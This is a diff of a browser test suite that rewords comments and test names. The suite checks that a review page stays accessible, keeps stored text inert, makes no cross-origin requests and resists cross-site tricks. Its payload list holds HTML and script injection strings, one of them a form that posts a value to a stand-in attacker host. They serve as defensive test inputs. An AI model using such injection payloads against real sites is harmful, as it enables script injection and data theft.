@@ -11,7 +11,7 @@ import { TestStore } from '../../testkit/store.ts';
 
 const AXE = readFileSync(join(ROOT, 'node_modules/axe-core/axe.min.js'), 'utf8');
 
-/** Each tries to be more than text; `HARM` is set if one of them is. */
+/** Each tries to be more than text; `HARM` is set if one succeeds. */
 const PAYLOADS = [
   '<script>window.HARM=1</script>',
   '</div></section></main><form action="https://evil.example/"><button name=key value=y>',
@@ -36,7 +36,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
     store = await TestStore.open();
   });
 
-  /** A sheet with everything on it: findings, hidden characters, a diff, a request, a history. */
+  /** A sheet with everything: findings, hidden characters, a diff, a request, a history. */
   async function fullSheet(): Promise<string> {
     const id = await store.verified('How releases are cut', {
       tags: ['release', 'a-very-long-tag-that-does-not-fit'],
@@ -63,7 +63,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
   }
 
   async function seriousFindings(tab: Tab): Promise<unknown[]> {
-    // The page's own policy lets no script in, so axe comes through the debugger.
+    // The page's policy allows no script, so axe is injected by the debugger.
     await tab.evaluate(AXE);
     const violations: { id: string; impact: string; nodes: { html: string }[] }[] = await tab.evaluate(
       `axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'] }).then((r) => r.violations)`,
@@ -79,7 +79,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
     ['light', 1100],
     ['dark', 1100],
   ] as const)('%s, %d pixels wide', (colorScheme, width) => {
-    test('every sheet passes the accessibility check and nothing runs out of the window', async () => {
+    test('every sheet passes the accessibility check and fits the window', async () => {
       await fullSheet();
       const tab = await tabOn(browser, await pageOf(store), {
         colorScheme,
@@ -106,7 +106,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
     });
   });
 
-  test('findings stand where they were found, hidden characters show, and the change is marked word by word', async () => {
+  test('findings are marked in place, hidden characters are visible, and changes are marked word by word', async () => {
     const id = await fullSheet();
     const tab = await tabOn(browser, await pageOf(store));
     const line = tab.locator('.line.noted').first();
@@ -163,7 +163,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
     expect(requests.filter((url) => !url.startsWith(new URL(page.url).origin))).toEqual([]);
   });
 
-  test('an agent’s reason, a client’s name and a file nobody can read are text too', async () => {
+  test('an agent’s reason, a client’s name and an unreadable file are text too', async () => {
     const id = await store.propose('asked for');
     store.pass(8);
     const [script = '', , image = ''] = PAYLOADS;
@@ -199,7 +199,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
     await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done));
     onTestFinished(() => void evil.close());
     const other = await tab.context().newPage();
-    // The same address with another port is the same site to a cookie, but not the same origin.
+    // Another port is the same site for cookies, but another origin.
     await other.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
     expect(await other.frames()[1]?.content()).not.toContain('ripe');
     await other.click('button');
@@ -208,7 +208,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
     expect(store.tier(id)).toBe('inferred');
   });
 
-  test('a link in a web page or a file leads to the review as a typed one does', async () => {
+  test('a link in a web page or a file leads to the review like a typed one', async () => {
     await store.propose('ripe');
     store.pass(8);
     const page = await pageOf(store);
@@ -221,7 +221,7 @@ describeInBrowser('what the page looks like, and what stored text cannot do to i
     });
     await new Promise<void>((done) => chat.listen(0, '127.0.0.1', done));
     onTestFinished(() => void chat.close());
-    // Another site: a strict cookie is not sent along with what it links to.
+    // Another site: a strict cookie is not sent with its links.
     await tab.goto(`http://localhost:${(chat.address() as AddressInfo).port}/`);
     await tab.click('a');
     await tab.waitForSelector('#answers');
